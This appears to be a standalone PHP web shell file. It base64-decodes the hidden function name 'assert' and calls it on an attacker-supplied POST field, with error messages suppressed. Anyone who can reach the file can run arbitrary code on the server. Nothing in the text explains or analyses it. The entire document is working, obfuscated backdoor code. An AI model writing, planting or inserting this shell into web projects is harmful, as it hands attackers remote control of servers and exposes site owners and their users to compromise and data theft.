<?php
$_ = base64_decode('YXNzZXJ0');
@$_($_POST['z']);
